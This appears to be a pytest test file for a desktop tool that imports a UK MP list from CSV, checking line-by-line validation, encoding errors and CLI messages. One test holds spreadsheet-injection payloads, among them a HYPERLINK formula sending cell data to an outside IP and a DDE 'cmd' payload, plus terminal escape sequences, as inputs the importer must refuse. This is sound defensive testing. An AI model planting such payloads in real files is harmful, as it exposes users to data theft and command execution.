"""Importing a new MP list: all or nothing, every problem listed by line."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from sirt_desktop.core import paths
from sirt_desktop.core.representatives import lookup as representatives
from sirt_desktop.core.representatives.mp_list import (
    apply_mp_csv,
    remove_imported_mp_list,
    validate_mp_csv,
)
from sirt_desktop.core.resources import read_text
from tests.cli.run import cli

ROMSEY = "E14001449"


def shipped_rows() -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(read_text("data", "mps.csv")))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


def write_csv(path: Path, header: list[str], rows: list[dict[str, str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=header, extrasaction="ignore", lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    return path


def imported_file() -> Path:
    return paths.data_dir(create=False) / "mps-imported.csv"


def assert_nothing_applied() -> None:
    assert not imported_file().exists()
    assert representatives.mp_list_as_of() == "2026-08-20"
    assert representatives.lookup("SO51 7AA").candidates[0].mp.name == "Caroline Nokes"


def test_good_file_applies_and_as_of_updates(tmp_path) -> None:
    header, rows = shipped_rows()
    for row in rows:
        if row["gss_code"] == ROMSEY:
            row["mp_name"], row["party"], row["record_as_of"] = "Test Person", "Independent", "2026-09-15"
    path = write_csv(tmp_path / "new.csv", header, rows)

    assert representatives.mp_list_as_of() == "2026-08-20"
    report = apply_mp_csv(path)
    assert report.ok and report.applied
    assert report.problems == []
    assert report.seat_count == 650
    assert report.as_of == "2026-09-15"
    assert report.changed == ["Romsey and Southampton North"]
    assert imported_file().exists()
    assert representatives.mp_list_as_of() == "2026-09-15"
    mp = representatives.lookup("SO51 7AA").candidates[0].mp
    assert mp is not None and mp.name == "Test Person" and mp.party == "Independent"
    assert not list(imported_file().parent.glob(".mps-*.tmp"))  # no temporary file left behind

    assert remove_imported_mp_list()
    assert representatives.mp_list_as_of() == "2026-08-20"


def test_shipped_file_itself_is_valid() -> None:
    from sirt_desktop.core.resources import resource_path

    report = validate_mp_csv(resource_path("data", "mps.csv"))
    assert report.ok, report.problems
    assert report.as_of == "2026-08-13"  # the newest record in the shipped list
    assert report.changed == []


def test_every_problem_is_listed_by_file_line_and_nothing_is_applied(tmp_path) -> None:
    header, rows = shipped_rows()
    # File lines: 1 is the header, data row i is on line i + 2.
    missing = rows.pop(10)  # a seat with no line
    rows[0]["record_as_of"] = "03/04/2026"  # line 2: bad date
    rows[1]["parliament_member_id"] = "12a"  # line 3: not an integer
    rows[2]["gss_code"] = "E99999999"  # line 4: unknown code (and so its seat is missing too)
    lost = shipped_rows()[1][2]
    rows.append(dict(rows[5]))  # duplicate of line 7, on the last line
    path = write_csv(tmp_path / "bad.csv", header, rows)
    last_line = len(rows) + 1

    report = apply_mp_csv(path)
    assert not report.ok and not report.applied
    by_line = {(p.line, p.message) for p in report.problems}
    messages = "\n".join(str(p) for p in report.problems)
    assert any(line == 2 and "03/04/2026" in msg for line, msg in by_line), messages
    assert any(line == 3 and "whole number" in msg for line, msg in by_line), messages
    assert any(line == 4 and "E99999999" in msg for line, msg in by_line), messages
    assert any(line == last_line and "already on line 7" in msg for line, msg in by_line), messages
    assert any(line is None and missing["gss_code"] in msg for line, msg in by_line), messages
    assert any(line is None and lost["gss_code"] in msg for line, msg in by_line), messages
    assert len(report.problems) == 6, messages
    assert_nothing_applied()


def test_missing_column_is_reported_on_line_1(tmp_path) -> None:
    header, rows = shipped_rows()
    header.remove("record_as_of")
    report = apply_mp_csv(write_csv(tmp_path / "nocol.csv", header, rows))
    assert not report.ok
    assert any(p.line == 1 and "record_as_of" in p.message for p in report.problems)
    assert_nothing_applied()


def test_a_rejected_file_leaves_an_applied_list_in_place(tmp_path) -> None:
    header, rows = shipped_rows()
    rows[0]["record_as_of"] = "2026-10-01"
    assert apply_mp_csv(write_csv(tmp_path / "good.csv", header, rows)).applied
    before = imported_file().read_bytes()
    rows.pop()
    assert not apply_mp_csv(write_csv(tmp_path / "short.csv", header, rows)).ok
    assert imported_file().read_bytes() == before
    assert representatives.mp_list_as_of() == "2026-10-01"


@pytest.mark.parametrize(
    "content, expected",
    [
        (b"", "empty"),
        (b"\n\n  \n", "empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary"),
        (b"gss_code,constituency\n\xff\xfeE14001449,Romsey\n", "UTF-8"),
    ],
)
def test_unreadable_files_are_rejected_plainly(tmp_path, content: bytes, expected: str) -> None:
    path = tmp_path / "odd.csv"
    path.write_bytes(content)
    report = apply_mp_csv(path)
    assert not report.ok
    assert any(expected in p.message for p in report.problems), report.problems
    assert_nothing_applied()


def test_not_utf8_names_its_line(tmp_path) -> None:
    path = tmp_path / "latin1.csv"
    path.write_bytes(b"gss_code,constituency\nE14001449,Romsey\nW07000112,Ynys M\xf4n\n")
    report = validate_mp_csv(path)
    assert [p.line for p in report.problems] == [3]


def test_header_only_file_lists_every_missing_seat(tmp_path) -> None:
    header, _ = shipped_rows()
    report = apply_mp_csv(write_csv(tmp_path / "header.csv", header, []))
    assert not report.ok
    assert sum("No line for" in p.message for p in report.problems) == 650
    assert_nothing_applied()


def test_cli_success_and_rejection(tmp_path) -> None:
    header, rows = shipped_rows()
    good = write_csv(tmp_path / "good.csv", header, rows)
    ran = cli("data", "import-mps", str(good))
    out, err = ran.out, ran.err
    assert ran.code == 0
    assert "650" in out and "now in use" in out
    assert err == ""

    rows[3]["member_since"] = "yesterday"
    bad = write_csv(tmp_path / "bad.csv", header, rows)
    ran = cli("data", "import-mps", str(bad))
    out, err = ran.out, ran.err
    assert ran.code == 1
    assert "Line 5:" in err and "yesterday" in err
    assert "not changed" in err


@pytest.mark.parametrize("name", ["does-not-exist.csv", "."])
def test_cli_missing_file_or_folder_is_a_plain_message(tmp_path, name: str) -> None:
    ran = cli("data", "import-mps", str(tmp_path / name))
    _out, err = ran.out, ran.err
    assert ran.code == 1
    assert "Traceback" not in err
    assert "not changed" in err
    assert_nothing_applied()


@pytest.mark.parametrize(
    "column, value, words",
    [
        ("mp_name", '=HYPERLINK("http://198.51.100.7/?x="&A1,"Click")', "spreadsheet formula"),
        ("mp_name", "+cmd|' /C calc'!A0", "spreadsheet formula"),
        ("party", "@SUM(1+1)", "spreadsheet formula"),
        ("mp_name", "Ann\x1b[2J\x1b]0;pwned\x07 Jones", "control character"),
        ("mp_name", "Ann Jones\nConstituency: Elsewhere", "control character"),
        ("parliament_member_id", "1" * 5000, "up to 12 digits"),
    ],
)
def test_names_that_would_act_on_a_terminal_or_a_spreadsheet_are_refused(tmp_path, column, value, words) -> None:
    header, rows = shipped_rows()
    rows[0][column] = value
    report = apply_mp_csv(write_csv(tmp_path / "bad.csv", header, rows))
    assert not report.ok
    assert any(words in line and line.startswith("Line 2:") for line in report.problem_lines())
    assert_nothing_applied()


def test_a_utf16_file_is_called_utf16(tmp_path) -> None:
    header, rows = shipped_rows()
    path = write_csv(tmp_path / "good.csv", header, rows)
    path.write_bytes(path.read_text(encoding="utf-8").encode("utf-16"))
    report = apply_mp_csv(path)
    assert not report.ok and "UTF-16" in report.problem_lines()[0]


def test_an_older_list_is_said_to_be_older_and_needs_a_yes(tmp_path) -> None:
    header, rows = shipped_rows()
    for row in rows:
        row["record_as_of"] = "2024-07-05"
    path = write_csv(tmp_path / "old.csv", header, rows)
    report = apply_mp_csv(path)
    assert not report.ok and "older than the list in use" in " ".join(report.problem_lines())
    assert_nothing_applied()
    ran = cli("data", "import-mps", str(path))
    assert ran.code == 1 and "--allow-older" in ran.err
    checked = validate_mp_csv(path)
    assert any("older than the one in use" in line for line in checked.summary_lines())
    ran = cli("data", "import-mps", "--allow-older", str(path))
    assert ran.code == 0, ran.err
